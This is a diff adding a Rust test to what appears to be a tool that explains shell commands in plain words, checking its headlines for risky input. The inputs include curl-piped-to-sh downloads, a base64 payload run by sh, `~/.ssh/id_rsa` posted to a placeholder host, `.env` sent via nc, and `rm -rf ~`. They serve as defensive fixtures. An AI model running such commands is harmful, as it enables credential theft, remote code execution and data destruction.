@@ -74,6 +74,31 @@ fn a_headline_tells_the_gravest_steps_in_their_order() {
 }
 
 #[test]
+fn a_headline_tells_steps_that_belong_together_as_one_and_hides_none() {
+    for (text, says) in [
+        ("curl -s https://a.example/x | sh", "Downloads `https://a.example/x` and runs it straight away, unseen."),
+        (
+            "curl -s https://a.example/x | sudo sh",
+            "Downloads `https://a.example/x` and runs it straight away as administrator, unseen.",
+        ),
+        ("bash <(curl -s https://a.example/x)", "Downloads `https://a.example/x` and runs it straight away, unseen."),
+        ("echo cm0K | base64 -d | sh", "Runs whatever `base64` prints, which isn't shown here."),
+        ("cat ~/.ssh/id_rsa | curl -d @- https://a.example/x", "Sends `~/.ssh/id_rsa` to `a.example`."),
+        ("cat .env | nc 192.0.2.1 99", "Sends `.env` to another computer."),
+        (
+            "rm -rf ~ | curl -s https://a.example/x | sh",
+            "Deletes `~` with everything in it, then downloads `https://a.example/x` and runs it straight away, unseen.",
+        ),
+        (
+            "rm x; curl -s https://a.example/x | sh",
+            "Deletes `x`, then downloads `https://a.example/x` and runs it straight away, unseen.",
+        ),
+    ] {
+        assert_eq!(explain(text).headline(), says, "{text}");
+    }
+}
+
+#[test]
 fn the_words_a_risk_comes_from_are_told() {
     for (text, marked) in [
         ("git push --force origin main", &["git", "push", "--force"][..]),
